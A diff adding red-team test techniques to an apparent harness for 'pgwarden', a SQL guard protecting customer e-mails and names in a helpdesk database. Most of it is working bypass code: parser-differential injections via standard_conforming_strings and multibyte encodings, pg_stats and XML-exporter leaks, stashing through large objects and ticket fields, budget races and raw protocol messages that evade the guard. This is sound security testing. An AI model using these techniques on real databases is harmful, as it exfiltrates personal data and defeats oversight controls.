@@ -1745,6 +1745,964 @@ def t_analyst_unmask(ctx: Ctx) -> None:
     ctx.q(c, "SELECT name, email FROM search_customers('%') LIMIT 50")
 
 
+# -- rt3: parser differentials, statistics, xml exporters --------------------------------------
+
+
+@technique("rows")
+def t_scs_off_startup(ctx: Ctx) -> None:
+    """standard_conforming_strings=off given in the startup packet's options: the server reads
+    'A\\' as an unterminated string (backslash escapes the quote) where a parser assuming the
+    default reads the string A\\ followed by a comment. What pgwarden judges is SELECT 'A\\';
+    what runs is SELECT 'A'' /* ', customer_id, "Email", "FullName" FROM customers ..."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- */")  # fmt: skip
+
+
+@technique("rows")
+def t_scs_off_set(ctx: Ctx) -> None:
+    """As scs_off_startup, but standard_conforming_strings is switched off by SET, then by
+    set_config() inside a SELECT, then in one simple-query string before the statement."""
+    leak = ("SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+            "WHERE customer_id BETWEEN {a} AND {b} -- */")  # fmt: skip
+    c = ctx.connect()
+    ctx.q(c, "SET standard_conforming_strings = off")
+    ctx.q(c, leak.format(a=1, b=1100))
+    c2 = ctx.connect()
+    ctx.q(c2, "SELECT set_config('standard_conforming_strings', 'off', false)")
+    ctx.q(c2, leak.format(a=1101, b=2200))
+    c3 = ctx.connect()
+    ctx.q(c3, "SET standard_conforming_strings = off; " + leak.format(a=2201, b=N_ALL))
+
+
+@technique("rows")
+def t_analyst_scs_off(ctx: Ctx) -> None:
+    """The analyst: the standard_conforming_strings parser differential; the mask is applied
+    to the statement pgwarden parsed (a constant), not to the one the server ran."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+             "WHERE tier = 'vip' -- */")  # fmt: skip
+    c2 = ctx.connect(sdb.ANALYST)
+    ctx.q(c2, "SET standard_conforming_strings = off")
+    ctx.q(c2, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+              "WHERE tier = 'vip' -- */")  # fmt: skip
+
+
+@technique("rows")
+def t_sjis_backslash(ctx: Ctx) -> None:
+    """client_encoding SJIS: the character 表 is the bytes 0x95 0x5C, the second one an ASCII
+    backslash. In an E'' string a byte-wise or Latin-1 reading sees an escaped quote and a
+    string running to the end; the server, converting SJIS first, sees E'表' and the columns."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT E'表', customer_id, \"Email\", \"FullName\" FROM customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- '")  # fmt: skip
+    c2 = ctx.connect()
+    ctx.q(c2, "SET client_encoding = 'SJIS'")
+    ctx.q(c2, "SELECT E'表', customer_id, \"Email\" FROM customers WHERE customer_id > 0 -- '")
+
+
+@technique("rows")
+def t_pg_stats_histograms(ctx: Ctx) -> None:
+    """pg_stats shows every column the role may SELECT: its histogram_bounds (101 values of a
+    unique column such as the e-mail) and most_common_vals, as anyarray text. No customer
+    table is named in the statement."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text, "
+             "most_common_elems::text FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip
+    ctx.q(c, "SELECT attname, histogram_bounds::text FROM pg_catalog.pg_stats "
+             "WHERE tablename IN ('customers', 'legacy_customers', 'customer_phones_mobile', "
+             "'customer_phones_other', 'customer_directory', 'customer_phones')")  # fmt: skip
+
+
+@technique("rows")
+def t_analyst_pg_stats(ctx: Ctx) -> None:
+    """The analyst: pg_stats histogram bounds of the masked columns, unmasked."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text "
+             "FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip
+
+
+@technique("rows")
+def t_table_to_xml(ctx: Ctx) -> None:
+    """The SQL/XML exporters that take a relation, a schema or the database rather than a
+    query text: table_to_xml('crm.customers'), schema_to_xml('crm'), database_to_xml()."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
+    ctx.q(c, "SELECT table_to_xml_and_xmlschema('crm.customer_phones_mobile', true, false, '')::text")
+    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")
+    ctx.q(c, "SELECT database_to_xml(true, false, '')::text")
+
+
+@technique("rows")
+def t_analyst_table_to_xml(ctx: Ctx) -> None:
+    """The analyst: table_to_xml over crm.customers, unmasked?"""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
+    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")
+
+
+@technique("rows")
+def t_cursor_to_xml(ctx: Ctx) -> None:
+    """A cursor declared over the customers (DECLARE returns no rows); cursor_to_xml() then
+    fetches 5000 rows of it inside one SELECT that names no table."""
+    c = ctx.connect(autocommit=False)
+    ctx.q(c, f'DECLARE cx CURSOR FOR SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}')
+    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
+    c.rollback()
+    ctx.q(c, "DECLARE cy CURSOR WITH HOLD FOR SELECT customer_id, phone FROM customer_phones "
+             "WHERE customer_id > 0")  # fmt: skip
+    c.commit()
+    ctx.q(c, "SELECT cursor_to_xml('cy', 5000, false, false, '')::text")
+    c.rollback()
+
+
+@technique("rows")
+def t_analyst_cursor_to_xml(ctx: Ctx) -> None:
+    """The analyst: cursor_to_xml over a cursor declared on the masked columns."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST, autocommit=False)
+    ctx.q(c, "DECLARE cx CURSOR FOR SELECT customer_id, \"Email\", \"FullName\" FROM customers "
+             "WHERE tier = 'vip'")  # fmt: skip
+    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
+    c.rollback()
+
+
+@technique("error")
+def t_analyst_error_cast(ctx: Ctx) -> None:
+    """The analyst: a failed cast puts the value in the error message."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT customer_id, \"Email\"::int FROM customers WHERE tier = 'vip'")
+    ctx.q(c, "SELECT (SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') FROM customers "
+             "WHERE tier = 'vip')::int")  # fmt: skip
+    for k in range(1, 40):
+        ctx.q(c, f'SELECT ("Email" || \' \' || "FullName")::int FROM customers WHERE customer_id = {k}')
+
+
+@technique("notice")
+def t_analyst_notice_notify(ctx: Ctx) -> None:
+    """The analyst: a DO block raising notices, and pg_notify() to a channel it listens on."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT \"Email\", \"FullName\" FROM crm.customers "
+             "WHERE tier = 'vip' LOOP RAISE NOTICE '%', r; END LOOP; END $$")  # fmt: skip
+    ctx.q(c, "LISTEN rt3")
+    ctx.q(c, "SELECT count(pg_notify('rt3', \"Email\" || ' ' || \"FullName\")) FROM customers "
+             "WHERE tier = 'vip'")  # fmt: skip
+    ctx.q(c, "SELECT 1")
+
+
+@technique("rows")
+def t_analyst_copy_out(ctx: Ctx) -> None:
+    """The analyst may COPY out (copy_out is not denied to it): text, csv and binary formats."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for q in ("COPY (SELECT customer_id, \"Email\", \"FullName\" FROM customers WHERE tier = 'vip') TO STDOUT",
+              "COPY (SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers WHERE tier = 'vip') "
+              "TO STDOUT WITH (FORMAT binary)",
+              "COPY customer_phones_mobile TO STDOUT WITH (FORMAT csv)"):  # fmt: skip
+        ctx.stmt += 1
+        ctx.out.statements += 1
+        buf = bytearray()
+        try:
+            with c.cursor() as cur, cur.copy(ctx.sql(q)) as cp:
+                for chunk in cp:
+                    buf += chunk
+        except psycopg.Error as exc:
+            ctx._error(exc)
+            if c.closed:
+                break
+        ctx.seen("copy", buf.decode(errors="replace"))
+
+
+@technique("rows")
+def t_analyst_binary(ctx: Ctx) -> None:
+    """The analyst in binary result format: jsonb, the composite card, the text[] array."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers "
+             "WHERE tier = %s", ("vip",), binary=True)  # fmt: skip
+
+
+@technique("rows")
+def t_analyst_lateral_srf(ctx: Ctx) -> None:
+    """The analyst: masked columns taken apart by set-returning functions in FROM (LATERAL):
+    jsonb_each_text, jsonb_to_record, unnest, regexp_split_to_table, XMLTABLE."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    v = "c.tier = 'vip' AND c.customer_id <> 3111"  # the vip canary would quarantine at once
+    for q in (f"SELECT c.customer_id, j.key, j.value FROM customers c, jsonb_each_text(c.profile->'contact') j WHERE {v}",
+              f"SELECT c.customer_id, r.name FROM customers c, jsonb_to_record(c.profile) AS r(name text) WHERE {v}",
+              f"SELECT c.customer_id, p FROM customers c, unnest(c.alt_phones) p WHERE {v}",
+              f"SELECT c.customer_id, s FROM customers c, regexp_split_to_table(c.\"Email\", '@') s WHERE {v}",
+              f"SELECT c.customer_id, s FROM customers c, unnest(ARRAY[c.\"FullName\"]) s WHERE {v}",
+              f"SELECT c.customer_id, x.e FROM customers c, XMLTABLE('/r' PASSING xmlelement(name r, c.\"Email\") "
+              f"COLUMNS e text PATH '.') x WHERE {v}",
+              f"SELECT c.customer_id, k.* FROM customers c, LATERAL (SELECT (c.card).*) k WHERE {v}"):  # fmt: skip
+        n = ctx.stmt + 1
+        ctx.q(c, q)
+        ctx.out.notes.append(f"{len(ctx.out.per_statement.get(n, ()))} unmasked: {q[:90]}")
+
+
+@technique("rows")
+def t_update_from_returning(ctx: Ctx) -> None:
+    """UPDATE of an unlabelled column of the tickets (agents may touch updated_at), joined to
+    the customers, RETURNING the customers' columns; in a transaction rolled back."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at FROM customers c '
+             'WHERE c.customer_id = t.customer_id RETURNING c.customer_id, c."Email", c."FullName"')  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at WHERE ticket_id > 0 RETURNING ticket_id, '
+             '(SELECT "Email" FROM customers c WHERE c.customer_id = t.customer_id)')  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_status_stash(ctx: Ctx) -> None:
+    """The writable ticket status (an unlabelled column) set to each customer's e-mail and name
+    in a transaction, read back by a SELECT of the tickets, then rolled back."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET status = c."Email" || \' \' || c."FullName" FROM customers c '
+             "WHERE c.customer_id = t.customer_id")  # fmt: skip
+    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" SET status = (SELECT "Email" FROM customers c '
+             'WHERE c.customer_id = "Tickets".customer_id) WHERE ticket_id > 0')  # fmt: skip
+    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_large_object_stash(ctx: Ctx) -> None:
+    """Each customer written to a large object of one's own (lo_from_bytea); the objects read
+    back with lo_get over pg_largeobject_metadata, which names no customer table."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "SELECT count(lo_from_bytea(0, convert_to(\"Email\" || ' ' || \"FullName\", 'UTF8'))) "
+             f"FROM customers WHERE {ALL}")  # fmt: skip
+    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "SELECT lo_from_bytea(0, convert_to(\"Email\", 'UTF8')) FROM customers "
+             "WHERE customer_id BETWEEN 1 AND 15")  # fmt: skip
+    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
+    ctx.q(c, "SELECT lo_unlink(oid) FROM pg_largeobject_metadata")
+
+
+@technique("rows")
+def t_budget_race(ctx: Ctx) -> None:
+    """The agent's own customers, 15 a statement, on 24 connections at once: does the hourly
+    budget hold when the statements are judged concurrently?"""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
+    conns = [ctx.connect() for _ in range(24)]
+    chunks = [mine[i : i + 15] for i in range(0, len(mine), 15)]
+    barrier = threading.Barrier(len(conns))
+
+    lock = threading.Lock()
+
+    def run(k: int) -> None:
+        barrier.wait()
+        for j in range(k, len(chunks), len(conns)):
+            ids = ",".join(map(str, chunks[j]))
+            with lock:
+                ctx.stmt += 1
+                ctx.out.statements += 1
+                n = ctx.stmt
+            try:
+                rows = conns[k].execute(ctx.sql('SELECT customer_id, "FullName", "Email" FROM customers '
+                                                f"WHERE customer_id IN ({ids})")).fetchall()  # fmt: skip
+            except psycopg.Error as exc:
+                with lock:
+                    ctx._error(exc)
+                continue
+            with lock:
+                ctx.seen("rows", sdb.dump_io(rows), stmt=n)
+
+    ts = [threading.Thread(target=run, args=(k,)) for k in range(len(conns))]
+    for t in ts:
+        t.start()
+    for t in ts:
+        t.join()
+    ctx.out.notes.append(f"own customers: {len(mine)}")
+
+
+@technique("rows")
+def t_scs_off_expressions(ctx: Ctx) -> None:
+    """The standard_conforming_strings differential again, with expressions rather than plain
+    columns (a RowDescription then names no table column), and the switch made in the same
+    simple-query string as the statement it changes."""
+    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
+            "FROM customers WHERE customer_id BETWEEN {a} AND {b} AND customer_id <> ALL('{{777,1555,2333,2999,3111}}') -- */")  # fmt: skip
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    r = ctx.q(c, leak.format(a=1, b=1100))
+    ctx.out.notes.append(f"startup option: {r!r:.100}")
+    c2 = ctx.connect()
+    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak.format(a=1101, b=2200))
+    ctx.out.notes.append(f"same string: {r!r:.100}")
+    c3 = ctx.connect()
+    ctx.q(c3, "BEGIN")
+    ctx.q(c3, "SET LOCAL standard_conforming_strings = off")
+    r = ctx.q(c3, leak.format(a=2201, b=N_ALL))
+    ctx.out.notes.append(f"SET LOCAL: {r!r:.100}")
+    ctx.q(c3, "ROLLBACK")
+
+
+@technique("rows")
+def t_analyst_scs_off_expressions(ctx: Ctx) -> None:
+    """The analyst: the standard_conforming_strings differential with expressions, canaries
+    left out."""
+    ctx.out.analyst = True
+    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
+            "FROM customers WHERE tier = 'vip' AND customer_id <> 3111 -- */")  # fmt: skip
+    c = ctx.connect(sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    r = ctx.q(c, leak)
+    ctx.out.notes.append(f"startup option: {r!r:.100}")
+    c2 = ctx.connect(sdb.ANALYST)
+    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak)
+    ctx.out.notes.append(f"same string: {r!r:.100}")
+
+
+@technique("rows")
+def t_honest_sjis_client(ctx: Ctx) -> None:
+    """Honest use from a client whose encoding is Shift-JIS (a Japanese helpdesk desktop): the
+    agent's own customer, with and without a Japanese literal in the statement."""
+    k = min(ctx.env.ds.need_to_know(ATTACKER))
+    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
+    for q in (f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}',
+              "SELECT '表示' AS label",
+              f"SELECT customer_id, \"Email\", '表示' AS label FROM customers WHERE customer_id = {k}",
+              f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND region <> '東京'"):  # fmt: skip
+        if ctx.q(c, q) is None:
+            ctx.out.notes.append(
+                f"refused: {q[:70]} -> {ctx.out.error_samples[-1][:140] if ctx.out.error_samples else ''}"
+            )
+
+
+@technique("rows")
+def t_scs_off_allowlisted_shape(ctx: Ctx) -> None:
+    """standard_conforming_strings=off in the startup packet, and a statement that, read with
+    the default, is the helpdesk application's own message-list query (its fingerprint is on
+    the allow-list): the rest hides in a block comment that begins inside what the server
+    reads as a string literal. The server runs a UNION ALL of every customer's e-mail and name
+    packed into two rows, the trailing ORDER BY being a line comment to it."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    agg = "string_agg(\"Email\" || ' ' || \"FullName\", ',')"
+    ctx.q(c, "SELECT m.author, m.body, m.sent_at FROM ticket_messages m JOIN \"Tickets\" t "
+             "ON t.ticket_id = m.ticket_id WHERE t.\"TicketNo\" = 'A\\' /* ' "
+             f"UNION ALL SELECT 'x', {agg}, now() FROM customers WHERE customer_id BETWEEN 1 AND 1650 "
+             f"UNION ALL SELECT 'y', {agg}, now() FROM customers WHERE customer_id > 1650 "
+             "-- */ ORDER BY m.sent_at")  # fmt: skip
+
+
+@technique("rows")
+def t_client_encoding_differential(ctx: Ctx) -> None:
+    """Client encodings whose two-byte characters end in 0x5C (an ASCII backslash): GBK 乗,
+    BIG5 么, Shift-JIS 予, chosen in the startup packet. In E'乗' a byte-wise reading sees an
+    escaped quote; the server, converting first, sees a closed string and the columns after
+    it. Also LATIN1, whose bytes are no valid UTF-8."""
+    for enc, ch in (("GBK", "乗"), ("BIG5", "么"), ("SJIS", "予")):
+        c = ctx.connect(options=f"'-c statement_timeout=30000 -c client_encoding={enc}'")
+        ctx.q(c, f"SELECT E'{ch}', customer_id + 0 AS k, \"Email\" || '' AS e FROM customers "
+                 "WHERE customer_id BETWEEN 1 AND 700 -- '")  # fmt: skip
+
+
+@technique("rows")
+def t_honest_latin1_gbk_client(ctx: Ctx) -> None:
+    """Honest use from clients in LATIN1 (a European desktop) and GBK: the agent's own
+    customer, with a non-ASCII literal in the statement."""
+    k = min(ctx.env.ds.need_to_know(ATTACKER))
+    for enc, word in (("LATIN1", "José"), ("GBK", "北京"), ("BIG5", "台北"), ("WIN1252", "Müller")):
+        c = ctx.connect(options=f"'-c statement_timeout=30000 -c client_encoding={enc}'")
+        q = f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND \"FullName\" <> '{word}'"
+        if ctx.q(c, q) is None:
+            ctx.out.notes.append(
+                f"{enc} refused: {q[-40:]} -> {ctx.out.error_samples[-1][:140] if ctx.out.error_samples else ''}"
+            )
+
+
+@technique("rows")
+def t_scs_off_set_config(ctx: Ctx) -> None:
+    """standard_conforming_strings switched off by set_config() inside a SELECT (no SET
+    statement for pgwarden to follow), then the differential statement with expressions."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT set_config('standard_conforming_strings', 'off', false)")
+    ctx.q(c, "SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
+             "FROM customers WHERE customer_id BETWEEN 1 AND 700 AND customer_id <> 777 -- */")  # fmt: skip
+
+
+def _raw_exchange(ctx: Ctx, conn: psycopg.Connection, msg: bytes) -> str:
+    """Send raw protocol messages (ending in Sync) on an idle psycopg connection's socket and
+    read everything up to ReadyForQuery, counting data rows and errors as ``_fastpath_call``."""
+    import os
+    import socket
+    import struct
+
+    ctx.stmt += 1
+    ctx.out.statements += 1
+    ctx.last_refused = False
+    s = socket.socket(fileno=os.dup(conn.pgconn.socket))
+    s.settimeout(HANG_SECONDS)
+    buf = b""
+    texts: list[str] = []
+    try:
+        s.sendall(msg)
+        while True:
+            while len(buf) < 5:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            n = struct.unpack("!I", buf[1:5])[0]
+            while len(buf) < 1 + n:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            kind, payload, buf = buf[0:1], buf[5 : 1 + n], buf[1 + n :]
+            text = payload.decode(errors="replace")
+            if kind == b"E":
+                fields = dict((f[:1], f[1:]) for f in text.split("\0") if f)
+                ctx.seen("error", text)
+                ctx.out.errors += 1
+                if len(ctx.out.error_samples) < 4:
+                    ctx.out.error_samples.append(f"{fields.get('C')}: {fields.get('M', '')[:200]}")
+                if fields.get("C") == "42501" and "pgwarden" in text:
+                    ctx.out.refused += 1
+                    ctx.last_refused = True
+                elif fields.get("C", "").startswith("XX"):
+                    ctx.out.internal_errors.append(text[:200])
+            elif kind == b"D":
+                ctx.seen("rows", text)
+            texts.append(kind.decode() + ":" + text)
+            if kind == b"Z":
+                break
+    except (OSError, ConnectionError) as exc:
+        ctx.out.internal_errors.append(f"connection lost: {exc}")
+    finally:
+        s.close()
+    return "\n".join(texts)
+
+
+def _msg(kind: bytes, body: bytes) -> bytes:
+    import struct
+
+    return kind + struct.pack("!I", len(body) + 4) + body
+
+
+def _execute_portal(portal: str, max_rows: int = 0) -> bytes:
+    import struct
+
+    return _msg(b"E", portal.encode() + b"\0" + struct.pack("!I", max_rows))
+
+
+def _bind(portal: str, stmt: str) -> bytes:
+    return _msg(b"B", portal.encode() + b"\0" + stmt.encode() + b"\0" + b"\0\0" + b"\0\0" + b"\0\0")
+
+
+SYNC = b"S\0\0\0\4"
+
+
+@technique("rows")
+def t_protocol_execute_sql_cursor(ctx: Ctx) -> None:
+    """A SQL cursor is a portal: DECLARE it (no rows come back), then fetch it with the
+    protocol's Execute message naming the cursor, with no Bind before it and no FETCH
+    statement for pgwarden to judge."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "DECLARE rt3c CURSOR FOR SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
+             "FROM customers WHERE customer_id BETWEEN 1 AND 700")  # fmt: skip
+    r = _raw_exchange(ctx, c, _execute_portal("rt3c") + SYNC)
+    ctx.out.notes.append(f"Execute 'rt3c': {r[:100]!r}")
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "DECLARE rt3h CURSOR WITH HOLD FOR SELECT customer_id, \"Email\", \"FullName\" "
+             "FROM customers WHERE customer_id > 700")  # fmt: skip
+    r = _raw_exchange(ctx, c, _execute_portal("rt3h", 2000) + SYNC)
+    ctx.out.notes.append(f"Execute 'rt3h': {r[:100]!r}")
+    ctx.q(c, "CLOSE rt3h")
+
+
+@technique("rows")
+def t_protocol_bind_sql_prepared(ctx: Ctx) -> None:
+    """SQL PREPARE and the protocol's Parse share one namespace: a statement prepared with
+    PREPARE is bound and executed with protocol Bind/Execute messages (no EXECUTE
+    statement); and a protocol-level statement pgwarden saw parsed harmless is DEALLOCATEd
+    and re-PREPAREd under the same name before its Bind."""
+    c = ctx.connect()
+    ctx.q(c, "PREPARE rt3p AS SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
+             "FROM customers WHERE customer_id BETWEEN 1 AND 700")  # fmt: skip
+    r = _raw_exchange(ctx, c, _bind("", "rt3p") + _execute_portal("") + SYNC)
+    ctx.out.notes.append(f"Bind rt3p: {r[:100]!r}")
+    res = c.pgconn.prepare(b"rt3q", b"SELECT 1::bigint AS k, 'x'::text AS e")
+    ctx.out.notes.append(f"Parse rt3q: {res.status}")
+    ctx.q(c, "DEALLOCATE rt3q")
+    ctx.q(c, "PREPARE rt3q AS SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e "
+             "FROM customers WHERE customer_id BETWEEN 701 AND 1400")  # fmt: skip
+    r = _raw_exchange(ctx, c, _bind("", "rt3q") + _execute_portal("") + SYNC)
+    ctx.out.notes.append(f"Bind rt3q: {r[:100]!r}")
+
+
+@technique("rows")
+def t_honest_shapes_rt3(ctx: Ctx) -> None:
+    """Honest use: the agent's own customers read in shapes application code writes -- an
+    ANY(array) parameter, FETCH FIRST, an EXISTS over the agent's open tickets, COALESCE over
+    a LEFT JOIN, a JOIN ... USING, a CASE on the tier, a named psycopg cursor over three of
+    them, an ORDER BY of a labelled column. Which are refused, and why?"""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))[:3]
+    k = mine[0]
+    aid = ctx.env.ds.agent_id(ATTACKER)
+    c = ctx.connect()
+    for q, p in (('SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id = ANY(%s)', (mine,)),
+                 (f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k} FETCH FIRST 1 ROW ONLY', None),
+                 ('SELECT c.customer_id, c."FullName" FROM customers c WHERE EXISTS (SELECT 1 FROM "Tickets" t '
+                  f"WHERE t.customer_id = c.customer_id AND t.assigned_agent_id = {aid} AND t.status <> 'closed') "
+                  "ORDER BY c.customer_id LIMIT 10", None),
+                 ("SELECT c.customer_id, c.\"FullName\", COALESCE(p.phone, '') AS phone FROM customers c "
+                  f"LEFT JOIN customer_phones p ON p.customer_id = c.customer_id AND p.kind = 'mobile' WHERE c.customer_id = {k}", None),
+                 ('SELECT t."TicketNo", customer_id, c."Email" FROM "Tickets" t JOIN customers c USING (customer_id) '
+                  f"WHERE t.assigned_agent_id = {aid} AND t.status = 'open' ORDER BY t.ticket_id LIMIT 5", None),
+                 (f"SELECT customer_id, CASE WHEN tier = 'vip' THEN \"FullName\" ELSE '' END FROM customers WHERE customer_id = {k}", None),
+                 (f'SELECT customer_id, "FullName" FROM customers WHERE customer_id IN ({",".join(map(str, mine))}) ORDER BY "FullName"', None),
+                 ("SELECT customer_id, \"FullName\", profile->'contact'->>'email' FROM customers WHERE customer_id = %s", (k,))):  # fmt: skip
+        if ctx.q(c, q, p) is None:
+            ctx.out.notes.append(
+                f"refused: {q[:80]} -> {ctx.out.error_samples[-1][:160] if ctx.out.error_samples else ''}"
+            )
+    t = ctx.connect(autocommit=False)
+    ctx.stmt += 1
+    ctx.out.statements += 1
+    try:
+        with t.cursor(name="rt3honest") as cur:
+            cur.execute(ctx.sql(f'SELECT customer_id, "Email" FROM customers WHERE customer_id IN ({",".join(map(str, mine))})'))
+            ctx.seen("rows", sdb.dump_io(cur.fetchall()))
+    except psycopg.Error as exc:
+        ctx._error(exc)
+        ctx.out.notes.append(f"named cursor refused: {str(exc)[:160]}")
+    t.rollback()
+
+
+@technique("rows")
+def t_analyst_protocol_portals(ctx: Ctx) -> None:
+    """The analyst: a SQL cursor fetched by the protocol's Execute message, and a SQL-prepared
+    statement bound by the protocol's Bind message; are the masked columns masked?"""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "DECLARE rt3c CURSOR FOR SELECT customer_id, \"Email\", \"FullName\", profile::text "
+             "FROM customers WHERE tier = 'vip' AND customer_id <> 3111")  # fmt: skip
+    _raw_exchange(ctx, c, _execute_portal("rt3c") + SYNC)
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "PREPARE rt3p AS SELECT customer_id, \"Email\", phone FROM customers JOIN customer_phones "
+             "USING (customer_id) WHERE tier = 'vip' AND customer_id <> 3111")  # fmt: skip
+    _raw_exchange(ctx, c, _bind("", "rt3p") + _execute_portal("") + SYNC)
+
+
+def _parse(stmt: str, query: str) -> bytes:
+    return _msg(b"P", stmt.encode() + b"\0" + query.encode() + b"\0" + b"\0\0")
+
+
+@technique("rows")
+def t_portal_execute_max_rows(ctx: Ctx) -> None:
+    """One statement over all of the agent's own customers, bound to a named portal in a
+    transaction and drained 15 rows per Execute message, each followed by a Sync: one
+    statement, hundreds of customers. Is the per-statement limit counted per portal or per
+    Execute?"""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
+    ids = ",".join(map(str, mine))
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    first = ctx.stmt + 1
+    r = _raw_exchange(ctx, c, _parse("rt3s", ctx.sql(f'SELECT customer_id, "FullName", "Email" FROM customers '
+                                                    f"WHERE customer_id IN ({ids})"))
+                      + _bind("rt3p", "rt3s") + _execute_portal("rt3p", 15) + SYNC)
+    ctx.out.notes.append(f"first Execute: {r[-80:]!r}")
+    for _ in range(len(mine) // 15 + 1):
+        ctx.stmt = first - 1
+        before = len(ctx.out.customers)
+        r = _raw_exchange(ctx, c, _execute_portal("rt3p", 15) + SYNC)
+        if len(ctx.out.customers) == before or ctx.last_refused:
+            break
+    ctx.out.statements -= ctx.out.statements - 3
+    ctx.out.notes.append(f"last Execute: {r[-80:]!r}")
+    ctx.stmt = first + 1
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_huge_statements(ctx: Ctx) -> None:
+    """Harmless statements of unusual size: a 64 MB string literal, and one simple-query string
+    of 20000 statements. An internal error, a hang or a lost connection breaks an invariant."""
+    c = ctx.connect()
+    r = ctx.q(c, "SELECT length('" + "x" * (64 << 20) + "')")
+    ctx.out.notes.append(f"64 MB literal: {r!r:.60}")
+    r = ctx.q(c, "SELECT 1;" * 20000)
+    ctx.out.notes.append(f"20000 statements: {str(r)[:60]}")
